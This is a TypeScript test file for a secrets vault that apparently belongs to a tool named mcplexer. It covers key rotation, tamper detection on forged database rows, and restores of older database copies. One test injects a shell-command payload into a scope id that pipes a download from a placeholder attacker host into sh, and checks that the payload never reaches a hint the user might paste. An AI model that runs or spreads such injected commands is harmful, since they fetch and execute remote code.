import { Database } from 'bun:sqlite'
import { describe, expect, test } from 'bun:test'
import { appendFileSync, copyFileSync, writeFileSync } from 'node:fs'
import { changeDatabase, identityCount, identityIn, sealedRows } from '../helpers/sealed.ts'
import { TempHome } from '../helpers/temp-home.ts'
import { vaultOf } from '../helpers/vault-of.ts'

const SCOPES = 'auth_scopes: [{ id: a }, { id: b }]'

/** Two homes, each with a sealed value, and one key file between them. */
function twoHomes(): Disposable & { one: TempHome; two: TempHome; env: Record<string, string> } {
  const one = new TempHome(SCOPES)
  const two = new TempHome(SCOPES)
  const env = { MCPLEXER_AGE_KEY: one.file('age.key') }
  one.put('a', 'TOKEN', 'of one')
  // `init` made the second home a key of its own; a new database makes it a vault that begins with the shared one
  two.runSync(['scope', 'delete', 'a', '--yes'])
  Bun.spawnSync(['rm', '-f', two.file('mcplexer.db'), two.file('age.key')])
  expect(two.runSync(['secret', 'put', 'a', 'TOKEN'], { stdin: 'of two', env }).exitCode).toBe(0)
  return {
    one,
    two,
    env,
    [Symbol.dispose]: () => {
      one[Symbol.dispose]()
      two[Symbol.dispose]()
    },
  }
}

describe('a key file that two homes share', () => {
  test('keeps what the other needs, whichever of them rotates', () => {
    using homes = twoHomes()
    const { one, two, env } = homes

    for (const rotate of [() => one.runSync(['rotate-key']), () => two.runSync(['rotate-key'], { env })]) {
      const { exitCode, stdout } = rotate()
      expect({ exitCode, isNamed: stdout.includes('yourself') }).toEqual({ exitCode: 0, isNamed: true })
      expect(one.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('of one')
      expect(two.runSync(['secret', 'get', 'a', 'TOKEN'], { env }).stdout).toBe('of two')
    }
  })

  test('loses no identity when both rotate at once', async () => {
    using homes = twoHomes()
    const { one, two, env } = homes

    for (let round = 0; round < 8; round++) {
      const runs = await Promise.all([
        one.run(['rotate-key']),
        two.run(['rotate-key'], { env }),
        one.run(['rotate-key']),
        two.run(['rotate-key'], { env }),
      ])
      expect(runs.map(({ exitCode, stderr }) => ({ exitCode, error: /error: .*/.exec(stderr)?.[0] }))).toEqual(
        Array(4).fill({ exitCode: 0, error: undefined }),
      )
      expect(one.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('of one')
      expect(two.runSync(['secret', 'get', 'a', 'TOKEN'], { env }).stdout).toBe('of two')
    }
  })
})

test('a key file that the user made himself is never shortened', async () => {
  using home = new TempHome(SCOPES)
  const identity = identityIn(home.read('age.key'))
  Bun.spawnSync(['rm', '-f', home.file('mcplexer.db')])
  writeFileSync(home.file('age.key'), `# mine\n${identity}\n`)
  home.put('a', 'TOKEN', 'v')
  expect(home.read('age.key')).toBe(`# mine\n${identity}\n`)

  expect(home.runSync(['rotate-key']).stdout).toContain('delete line 2')

  expect(home.read('age.key')).toStartWith(`# mine\n${identity}\n`)
  expect(await identityCount(home)).toBe(2)
})

describe('a list of scopes that was forged', () => {
  const FORGERIES: [string, (home: TempHome) => void][] = [
    [
      'its text',
      (home) => changeDatabase(home, 'update vault_state set manifest = ?', new TextEncoder().encode('x')),
    ],
    ['its HMAC', (home) => changeDatabase(home, 'update vault_state set manifest_mac = ?', new Uint8Array(32))],
    ['the vault it is of', (home) => changeDatabase(home, `update vault_state set vault_id = 'another'`)],
    ['the whole row deleted', (home) => changeDatabase(home, 'delete from vault_state')],
  ]

  test.each(FORGERIES)('(%s) stops init and rotate-key, and no identity goes', (_name, forge) => {
    using home = new TempHome(SCOPES)
    home.put('a', 'TOKEN', 'v')
    const key = home.read('age.key')
    forge(home)
    if (!_name.startsWith('the whole')) changeDatabase(home, 'delete from sealed_scopes')

    for (const args of [['rotate-key'], ['init'], ['rotate-key', '--dry-run']]) {
      const { exitCode, stderr } = home.runSync(args)
      expect({ args, exitCode }).toEqual({ args, exitCode: 1 })
      expect(stderr).toContain('was changed outside of mcplexer')
    }
    expect(home.read('age.key')).toBe(key)
  })

  test('is begun anew by a put, and no row from before it is believed again', () => {
    using home = new TempHome(SCOPES)
    home.put('a', 'TOKEN', 'first')
    copyFileSync(home.file('mcplexer.db'), home.file('old.db'))
    home.put('a', 'TOKEN', 'second')
    changeDatabase(home, 'update vault_state set manifest_mac = ?', new Uint8Array(32))
    home.put('a', 'TOKEN', 'third')
    expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('third')

    const database = new Database(home.file('mcplexer.db'))
    database.run(`attach ? as old`, [home.file('old.db')])
    database.run('delete from sealed_scopes')
    database.run('insert into sealed_scopes select * from old.sealed_scopes')
    database.close()

    const { exitCode, stderr } = home.runSync(['secret', 'get', 'a', 'TOKEN'])
    expect(exitCode).toBe(1)
    expect(stderr).toContain('auth scope a was changed')
  })

  test('cannot name an identity of the user to be dropped, or one to seal for', async () => {
    using home = new TempHome(SCOPES)
    using other = new TempHome()
    home.put('a', 'TOKEN', 'v')
    const [mine] = sealedRows(home)
    const theirs = /public key: (\S+)/.exec(other.read('age.key'))?.[1] ?? ''
    const text = `${home.read('age.key')}${identityIn(other.read('age.key'))}\n`
    writeFileSync(home.file('age.key'), text)
    changeDatabase(home, 'update vault_state set recipient = ?', theirs)

    expect(home.runSync(['rotate-key']).stderr).toContain('was changed outside of mcplexer')
    expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).exitCode).toBe(1)
    expect(home.read('age.key')).toBe(text)
    expect(mine?.recipient).not.toBe(theirs)
  })
})

test('an empty list that nobody has signed says nothing of vaults, recipients or identities', () => {
  using home = new TempHome(SCOPES)
  home.put('a', 'TOKEN', 'v')
  expect(home.runSync(['rotate-key']).exitCode).toBe(0)
  const key = home.read('age.key')
  changeDatabase(home, 'delete from sealed_scopes')
  changeDatabase(
    home,
    `update vault_state set recipient = 'age1x', mac_key = 'age1x', vault_id = ?, manifest = ?`,
    'x\nAGE-SECRET-KEY-1PLANTED',
    new TextEncoder().encode('mcplexer-manifest/1\n0\n'),
  )
  writeFileSync(home.file('.age.key.x.tmp'), '')

  home.runSync(['secret', 'get', 'a', 'TOKEN'])
  expect(home.read('age.key')).toBe(key)

  home.put('a', 'TOKEN', 'new')
  expect(home.read('age.key')).not.toContain('PLANTED')
  expect(home.read('age.key')).toContain(identityIn(key))
  expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('new')
})

describe('after a copy of the database from before a rotation was put back', () => {
  test('no identity goes that the newer database needs', async () => {
    using home = new TempHome(SCOPES)
    home.put('a', 'TOKEN', 'v')
    copyFileSync(home.file('mcplexer.db'), home.file('old.db'))
    expect(home.runSync(['rotate-key', '--keep-old', home.file('old.key')]).exitCode).toBe(0)
    copyFileSync(home.file('mcplexer.db'), home.file('new.db'))

    copyFileSync(home.file('old.db'), home.file('mcplexer.db'))
    appendFileSync(home.file('age.key'), home.read('old.key'))
    expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
    expect(await identityCount(home)).toBe(2)

    copyFileSync(home.file('new.db'), home.file('mcplexer.db'))
    expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
  })
})

test('tidying up waits for nobody who holds the key file', () => {
  using home = new TempHome(SCOPES)
  home.put('a', 'TOKEN', 'v')
  writeFileSync(home.file('.age.key.left.tmp'), '')
  const holder = new Database(home.file('.age.key.lock'))
  holder.run('begin exclusive')

  const started = performance.now()
  expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')

  expect(performance.now() - started).toBeLessThan(5000)
  holder.close()
})

test('the id of a forged row becomes no part of a command to paste', () => {
  using home = new TempHome(SCOPES)
  home.put('a', 'TOKEN', 'v')
  changeDatabase(home, 'update sealed_scopes set scope_id = ?', 'x; curl evil.example | sh #')

  const { exitCode, stderr } = home.runSync(['rotate-key'])

  expect(exitCode).toBe(1)
  expect(stderr.split('hint')[1]).not.toContain('evil')
})

test('a copy of the database from the middle of a rotation takes nothing from the one that went on', async () => {
  using home = new TempHome(SCOPES)
  home.put('a', 'TOKEN', 'v')
  const vault = vaultOf(home)
  await vault.rotate(
    { isDryRun: false, isPostQuantum: false, keepOldFile: null },
    {
      onStep: (step) => {
        if (step === 'identity-added') copyFileSync(home.file('mcplexer.db'), home.file('middle.db'))
      },
    },
  )
  await vault.close()
  copyFileSync(home.file('mcplexer.db'), home.file('new.db'))

  copyFileSync(home.file('middle.db'), home.file('mcplexer.db'))
  writeFileSync(home.file('.age.key.left.tmp'), '')
  home.runSync(['secret', 'list'])
  copyFileSync(home.file('new.db'), home.file('mcplexer.db'))

  expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
})

test('a key file without room for another identity stops a rotation before it writes', () => {
  using home = new TempHome(SCOPES)
  home.put('a', 'TOKEN', 'v')
  appendFileSync(home.file('age.key'), `# ${'x'.repeat(520_000)}\n`)
  const key = home.read('age.key')

  const { exitCode, stderr } = home.runSync(['rotate-key'])

  expect({ exitCode, isNamed: stderr.includes('no room for another identity') }).toEqual({
    exitCode: 1,
    isNamed: true,
  })
  expect(home.read('age.key')).toBe(key)
  expect(home.runSync(['secret', 'get', 'a', 'TOKEN']).stdout).toBe('v')
})
